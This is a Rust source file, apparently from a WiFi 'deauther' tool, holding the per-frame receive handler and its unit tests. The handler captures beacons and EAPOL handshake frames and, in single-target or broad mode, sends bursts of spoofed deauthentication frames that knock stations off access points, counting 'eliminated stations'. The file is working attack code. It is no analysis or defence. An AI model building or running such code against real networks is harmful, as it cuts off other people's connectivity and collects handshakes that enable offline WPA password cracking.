//! Receive callback: classification, capture and attack decision per frame

use crate::classifier::{capture_beacon, capture_eapol, involves_target};
use crate::injector::Injector;
use crate::session::Session;
use deauther_core::{AttackMode, FrameCategory, Radio, RadioInterface, RxCallback, RxPacket};
use deauther_packet::{DeauthFrame, MacHeader};
use std::sync::Arc;
use tracing::{debug, trace};

/// What one frame caused
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FrameVerdict {
    /// The frame was stored as the session's target beacon
    pub beacon_captured: bool,
    /// The frame was stored as an EAPOL frame
    pub eapol_captured: bool,
    /// Transmit calls made in response
    pub frames_sent: usize,
}

/// Per-session receive handler
///
/// Owns the deauthentication template, so only the receive context ever
/// re-addresses it. Built by the controller on every start and moved into
/// the radio's receive callback.
pub struct Sniffer<R: Radio + ?Sized> {
    session: Arc<Session>,
    mode: AttackMode,
    template: DeauthFrame,
    injector: Injector<R>,
}

impl<R: Radio + ?Sized> Sniffer<R> {
    pub fn new(
        session: Arc<Session>,
        mode: AttackMode,
        template: DeauthFrame,
        injector: Injector<R>,
    ) -> Self {
        Self {
            session,
            mode,
            template,
            injector,
        }
    }

    pub fn mode(&self) -> AttackMode {
        self.mode
    }

    /// Current state of the deauthentication template
    pub fn template(&self) -> &DeauthFrame {
        &self.template
    }

    /// Process one received frame
    ///
    /// Runs in bounded time without allocating. The beacon test and the
    /// attack decision are independent, so one frame may trigger both.
    pub fn handle_frame(&mut self, packet: RxPacket<'_>) -> FrameVerdict {
        let mut verdict = FrameVerdict::default();
        let counters = self.session.counters();
        counters.record_frame();

        if packet.is_oversized() {
            counters.record_oversized();
            trace!(len = packet.len(), "Oversized frame dropped");
            return verdict;
        }

        let header = match MacHeader::parse(packet.data()) {
            Some(header) => header,
            None => return verdict,
        };

        // In broad mode the sender follows the last attacked access point.
        let target = self.template.sender;

        verdict.beacon_captured = capture_beacon(&self.session, &packet, &header, &target);

        if self.mode == AttackMode::SingleTarget
            && packet.category == FrameCategory::Data
            && involves_target(&header, &target)
        {
            verdict.eapol_captured = capture_eapol(&self.session, &packet);
        }

        match self.mode {
            AttackMode::SingleTarget => {
                if header.dest == target {
                    self.template.address_for_single_target(header.src);
                    let report = self.injector.burst(
                        &self.template,
                        RadioInterface::AccessPoint,
                        counters,
                    );
                    self.session.record_elimination();
                    verdict.frames_sent = report.attempts();
                    debug!(
                        station = %header.src,
                        bssid = %target,
                        frames = report.sent,
                        "Station deauthenticated"
                    );
                }
            }
            AttackMode::Broad => {
                if header.dest == header.bssid && !header.dest.is_broadcast() {
                    self.template
                        .address_for_broad_target(header.src, header.dest);
                    let report =
                        self.injector
                            .burst(&self.template, RadioInterface::Station, counters);
                    verdict.frames_sent = report.attempts();
                    debug!(
                        station = %header.src,
                        bssid = %header.dest,
                        frames = report.sent,
                        "Station deauthenticated"
                    );
                }
            }
        }

        verdict
    }
}

impl<R: Radio + ?Sized + 'static> Sniffer<R> {
    /// Wrap the handler as a radio receive callback
    pub fn into_callback(mut self) -> RxCallback {
        Box::new(move |packet: RxPacket<'_>| {
            self.handle_frame(packet);
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sim::SimulatedRadio;
    use deauther_core::{MacAddr, ReasonCode, MAX_FRAME_LEN};
    use deauther_packet::LlcSnapHeader;

    const AP: MacAddr = MacAddr([0xaa, 0xbb, 0xcc, 0x00, 0x00, 0x01]);
    const OTHER_AP: MacAddr = MacAddr([0xaa, 0xbb, 0xcc, 0x00, 0x00, 0x02]);
    const STA: MacAddr = MacAddr([0x11, 0x22, 0x33, 0x44, 0x55, 0x66]);
    const BURST: usize = 16;

    fn frame(fc0: u8, dest: MacAddr, src: MacAddr, bssid: MacAddr) -> Vec<u8> {
        let mut bytes = vec![fc0, 0x00, 0x00, 0x00];
        bytes.extend_from_slice(dest.as_bytes());
        bytes.extend_from_slice(src.as_bytes());
        bytes.extend_from_slice(bssid.as_bytes());
        bytes.extend_from_slice(&[0x00, 0x00]);
        bytes.resize(64, 0x00);
        bytes
    }

    fn setup(mode: AttackMode) -> (Arc<SimulatedRadio>, Arc<Session>, Sniffer<SimulatedRadio>) {
        let radio = Arc::new(SimulatedRadio::new());
        let session = Arc::new(Session::new());
        let template = match mode {
            AttackMode::SingleTarget => DeauthFrame::new(ReasonCode::UNSPECIFIED).with_target(AP),
            AttackMode::Broad => DeauthFrame::new(ReasonCode::UNSPECIFIED),
        };
        let injector = Injector::new(Arc::downgrade(&radio), BURST);
        let sniffer = Sniffer::new(session.clone(), mode, template, injector);
        (radio, session, sniffer)
    }

    #[test]
    fn test_single_target_attack() {
        let (radio, session, mut sniffer) = setup(AttackMode::SingleTarget);
        let bytes = frame(0x08, AP, STA, AP);

        let verdict = sniffer.handle_frame(RxPacket::classify(&bytes));

        assert_eq!(verdict.frames_sent, BURST);
        assert_eq!(sniffer.template().station, STA);
        assert_eq!(sniffer.template().sender, AP);
        assert_eq!(sniffer.template().access_point, AP);
        assert_eq!(radio.transmit_attempts(), BURST);
        assert!(radio
            .transmissions()
            .iter()
            .all(|tx| tx.interface == RadioInterface::AccessPoint));
        assert_eq!(session.eliminated_stations(), 1);
    }

    #[test]
    fn test_single_target_ignores_other_destinations() {
        let (radio, session, mut sniffer) = setup(AttackMode::SingleTarget);
        let bytes = frame(0x08, STA, AP, AP);

        let verdict = sniffer.handle_frame(RxPacket::classify(&bytes));

        assert_eq!(verdict, FrameVerdict::default());
        assert_eq!(radio.transmit_attempts(), 0);
        assert_eq!(session.eliminated_stations(), 0);
    }

    #[test]
    fn test_broad_attack_spoofs_observed_ap() {
        let (radio, session, mut sniffer) = setup(AttackMode::Broad);
        let bytes = frame(0x08, OTHER_AP, STA, OTHER_AP);

        let verdict = sniffer.handle_frame(RxPacket::classify(&bytes));

        assert_eq!(verdict.frames_sent, BURST);
        assert_eq!(sniffer.template().station, STA);
        assert_eq!(sniffer.template().access_point, OTHER_AP);
        assert_eq!(sniffer.template().sender, OTHER_AP);
        assert!(radio
            .transmissions()
            .iter()
            .all(|tx| tx.interface == RadioInterface::Station));
        // Broad bursts are not counted as eliminated stations.
        assert_eq!(session.eliminated_stations(), 0);
    }

    #[test]
    fn test_broad_ignores_broadcast() {
        let (radio, _session, mut sniffer) = setup(AttackMode::Broad);
        let bcast = MacAddr::broadcast();
        let bytes = frame(0x08, bcast, STA, bcast);

        let verdict = sniffer.handle_frame(RxPacket::classify(&bytes));

        assert_eq!(verdict.frames_sent, 0);
        assert_eq!(radio.transmit_attempts(), 0);
    }

    #[test]
    fn test_broad_requires_dest_equal_bssid() {
        let (radio, _session, mut sniffer) = setup(AttackMode::Broad);
        let bytes = frame(0x08, STA, OTHER_AP, OTHER_AP);

        sniffer.handle_frame(RxPacket::classify(&bytes));
        assert_eq!(radio.transmit_attempts(), 0);
    }

    #[test]
    fn test_oversized_frame_dropped() {
        let (radio, session, mut sniffer) = setup(AttackMode::SingleTarget);
        let mut bytes = frame(0x08, AP, STA, AP);
        bytes.resize(MAX_FRAME_LEN + 1, 0x00);

        let verdict = sniffer.handle_frame(RxPacket::classify(&bytes));

        assert_eq!(verdict, FrameVerdict::default());
        assert_eq!(radio.transmit_attempts(), 0);
        assert_eq!(session.stats().oversized_dropped, 1);
    }

    #[test]
    fn test_short_frame_is_no_match() {
        let (radio, session, mut sniffer) = setup(AttackMode::SingleTarget);
        let verdict = sniffer.handle_frame(RxPacket::classify(&[0x80, 0x00, 0x00]));

        assert_eq!(verdict, FrameVerdict::default());
        assert_eq!(radio.transmit_attempts(), 0);
        assert_eq!(session.stats().frames_seen, 1);
    }

    #[test]
    fn test_beacon_and_attack_are_independent() {
        let (_radio, session, mut sniffer) = setup(AttackMode::SingleTarget);
        // A beacon from the target addressed to the target itself triggers both paths.
        let bytes = frame(0x80, AP, AP, AP);

        let verdict = sniffer.handle_frame(RxPacket::classify(&bytes));

        assert!(verdict.beacon_captured);
        assert_eq!(verdict.frames_sent, BURST);
        assert!(session.beacon_captured());
    }

    #[test]
    fn test_eapol_then_attack_in_single_mode() {
        let (_radio, session, mut sniffer) = setup(AttackMode::SingleTarget);
        let mut bytes = frame(0x08, AP, STA, AP);
        bytes.truncate(24);
        bytes.extend_from_slice(&LlcSnapHeader::eapol().to_bytes());
        bytes.resize(128, 0x00);

        let verdict = sniffer.handle_frame(RxPacket::classify(&bytes));

        assert!(verdict.eapol_captured);
        assert_eq!(verdict.frames_sent, BURST);
        assert_eq!(session.ring().len(), 1);
    }

    #[test]
    fn test_no_eapol_capture_in_broad_mode() {
        let (_radio, session, mut sniffer) = setup(AttackMode::Broad);
        let mut bytes = frame(0x08, AP, STA, AP);
        bytes.truncate(24);
        bytes.extend_from_slice(&LlcSnapHeader::eapol().to_bytes());
        bytes.resize(128, 0x00);

        let verdict = sniffer.handle_frame(RxPacket::classify(&bytes));

        assert!(!verdict.eapol_captured);
        assert!(session.ring().is_empty());
    }
}
